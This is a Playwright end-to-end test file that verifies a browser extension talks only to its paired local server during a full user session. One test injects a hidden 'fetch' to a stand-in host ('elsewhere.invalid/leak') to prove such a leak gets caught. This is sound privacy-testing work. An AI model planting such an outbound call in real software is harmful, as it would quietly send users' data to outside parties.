"""Every request of the extension in a whole session is listed, and goes to the paired server and nowhere else."""

import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Page, Playwright, expect

from server.domain.brand import Brand
from tests.e2e.altered import DOOR, SPOKEN, altered_extension
from tests.e2e.endings import stop_worker
from tests.e2e.launching import launch
from tests.e2e.marketer import Marketer, badge
from tests.e2e.platforms import Platforms
from tests.e2e.requests_seen import Asked, Listener, as_json, hosts_asked_by
from tests.e2e.running import ROOT, Running

LISTED = Path(__file__).with_name("requests.json")
WRITTEN = ROOT / "build" / "requests.json"
INSTAGRAM = ("quietgrain", "ines.barro", "haru.indigo", "tilda.mends", "claire.fripe")
TIKTOK = ("marloknits", "dailyderya")


@pytest.fixture
def log(tmp_path: Path) -> Path:
    return tmp_path / "net-log.json"


@pytest.fixture
def watched(
    player: Playwright, platforms: Platforms, seedlist: Running, tmp_path: Path, log: Path
) -> Iterator[tuple[Marketer, Listener]]:
    """Somebody who is not paired yet, in a browser that writes down every request."""
    context = launch(player, tmp_path / "profile", platforms, switches=[f"--log-net-log={log}"])
    listener = Listener(context, seedlist.port)
    made = Marketer.in_browser(context, seedlist)
    yield made, listener
    context.close()


def own_page(marketer: Marketer, path: str) -> Page:
    tab = marketer.context.new_page()
    tab.goto(f"chrome-extension://{marketer.extension_id}/{path}")
    return tab


def pair_by_hand(marketer: Marketer) -> None:
    assert marketer.tell_extension({"kind": "set", "settings": {"port": marketer.seedlist.port}})["ok"]
    popup = own_page(marketer, "popup/popup.html")
    popup.locator("#code").fill(marketer.seedlist.code())
    popup.get_by_role("button", name="Pair").click()
    expect(popup.locator("#light")).to_have_text("running")
    popup.close()


def a_whole_session(marketer: Marketer, page: Page) -> None:
    """Ten profiles on both platforms, a save with its note, an undo, another brand, the options."""
    for brand in ("Fenn", "Rua"):
        marketer.describe_brand(Brand(name=brand, id=brand.lower(), story="mended denim and slow knitwear"))
    save, panel = badge(page).locator("[data-key=save]"), page.locator("seedlist-panel")
    for handle in INSTAGRAM + INSTAGRAM[:3]:
        expect(marketer.open_instagram(page, handle)).to_contain_text("Fit")
    for handle in TIKTOK:
        expect(marketer.open_tiktok(page, handle)).to_contain_text("Fit")
    for word in ("Saved", "Undo", "Saved"):
        save.click()
        expect(save).to_contain_text(word)
    badge(page).locator("[data-key=open]").click()
    panel.locator("[data-key=note]").fill("asks for denim")
    panel.locator("[data-key=note]").blur()
    expect(page.locator("seedlist-badge [data-live]")).to_have_text("Kept")
    popup = own_page(marketer, "popup/popup.html")
    popup.locator("[name=brand]").select_option("fenn")
    expect(popup.locator("[name=brand]")).to_have_value("fenn")
    with marketer.context.expect_page() as lists:
        popup.get_by_role("button", name="Lists").click()
    lists.value.close()
    options = own_page(marketer, "options/options.html")
    options.get_by_label("Compact").check()
    expect(options.locator("#said")).not_to_be_empty()
    options.locator("#unpair").click()
    expect(badge(page)).to_contain_text("not paired")


def test_the_extension_asks_what_is_listed_and_nobody_else(watched: tuple[Marketer, Listener], log: Path) -> None:
    marketer, listener = watched
    pair_by_hand(marketer)
    a_whole_session(marketer, marketer.context.new_page())
    seen = listener.of_the_extension()
    WRITTEN.parent.mkdir(exist_ok=True)
    WRITTEN.write_text(as_json(seen), "utf-8")
    elsewhere = [one for one in seen if one.where != "paired server"]
    assert elsewhere == [], "the extension may speak to the paired server only"
    listed = [Asked(**row) for row in json.loads(LISTED.read_text("utf-8"))]
    said = "is this meant? then copy build/requests.json to tests/e2e/requests.json, and see the README's Privacy"
    assert seen == listed, f"new: {sorted(set(seen) - set(listed))}, gone: {sorted(set(listed) - set(seen))}; {said}"
    marketer.context.close()
    ours = f"chrome-extension://{marketer.extension_id}"
    server = f"127.0.0.1:{marketer.seedlist.port}"
    assert hosts_asked_by(ours, log) - {marketer.extension_id} == {server}, "by the browser's own log"


def test_a_request_to_somebody_else_would_be_seen_by_both_witnesses(
    player: Playwright, platforms: Platforms, seedlist: Running, tmp_path: Path, log: Path
) -> None:
    leak = 'void fetch("http://elsewhere.invalid/leak").catch(() => {});'
    folder = altered_extension(tmp_path, DOOR, {SPOKEN: f"{SPOKEN}\n{leak}"})
    context = launch(player, tmp_path / "profile", platforms, folder=folder, switches=[f"--log-net-log={log}"])
    listener = Listener(context, seedlist.port)
    marketer = Marketer.in_browser(context, seedlist)
    marketer.tell_extension({"kind": "state"})
    stop_worker(marketer)
    marketer.tell_extension({"kind": "state"})
    context.close()
    assert "elsewhere.invalid" in {one.where for one in listener.of_the_extension()}
    assert "elsewhere.invalid" in hosts_asked_by(f"chrome-extension://{marketer.extension_id}", log)
